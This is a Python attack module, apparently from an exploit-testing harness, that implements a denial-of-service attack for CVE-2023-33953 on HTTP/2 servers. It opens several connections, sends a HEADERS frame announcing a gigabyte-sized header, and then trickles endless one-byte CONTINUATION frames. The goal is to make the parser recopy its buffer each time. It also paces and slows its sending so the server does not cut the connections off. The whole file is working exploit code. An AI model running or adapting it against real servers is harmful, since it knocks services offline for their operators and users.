"""Headers of a megabyte, and then a byte of them in each CONTINUATION: a parser that begins anew with
each copies all that it has, every time (CVE-2023-33953). Slow enough not to be cut off."""

import itertools
import time

import wire
from target import Cut

WAYS = ("tls", "plain")
FLOOR = {"frames": 500}
# As many as strangers' bytes suffice for.
CONNECTIONS = 4
# Of a connection, in bytes a second; less after one was cut off. What it may send at once.
RATE_FIRST, RATE_MIN, SLOWER = 15 << 10, 1 << 10, 0.7
AT_ONCE = 16 << 10
TICK_S = 0.1
# Of the attack: the header's begin comes in whole frames.
BUILD_UP = 0.6
ANNOUNCED = 1 << 30


class Header:
    """One that never ends, on a connection of its own."""

    def __init__(self, target, connection):
        # Whose calls are answered is a client like others.
        connection.open_call(wire.HEALTH_CHECK, b"")
        self.connection = connection
        self._stream = connection.next_stream
        begin = b"".join(wire.literal(name, value) for name, value in
                         wire.request_headers(wire.HEALTH_CHECK, target.scheme))
        begin += b"\x00" + wire.string("x") + wire.integer(ANNOUNCED, 7)
        connection.queue(wire.frame(wire.HEADERS, 0, self._stream, begin))
        self._allowed = AT_ONCE

    def grow(self, allowed, in_crumbs):
        """By so many bytes on the wire."""
        self._allowed += allowed
        connection = self.connection
        crumb = wire.frame(wire.CONTINUATION, 0, self._stream, b"y")
        if in_crumbs:
            count = int(self._allowed / len(crumb))
            connection.queue(crumb * count)
            connection.count("frames", count)
            self._allowed -= count * len(crumb)
        while not in_crumbs and self._allowed > len(crumb):
            size = min(int(self._allowed) - len(crumb) + 1, wire.FRAME_MAX)
            connection.queue(wire.frame(wire.CONTINUATION, 0, self._stream, b"y" * size))
            self._allowed -= len(crumb) - 1 + size
        connection.flush()
        connection.discard()


def attack(target):
    rate = RATE_FIRST
    numbers = itertools.count()
    headers = []
    crumbs_from = time.monotonic() + BUILD_UP * target.seconds
    while True:
        began = time.monotonic()
        try:
            while len(headers) < CONNECTIONS:
                headers.append(Header(target, target.connect(next(numbers))))
        except Cut as cut:
            target.cut(cut)
        for header in list(headers):
            try:
                header.grow(rate * TICK_S, began > crumbs_from)
            except Cut as cut:
                headers.remove(header)
                header.connection.close()
                target.cut(cut)
                rate = max(RATE_MIN, rate * SLOWER)
        time.sleep(max(0.0, min(target.left(), began + TICK_S - time.monotonic())))
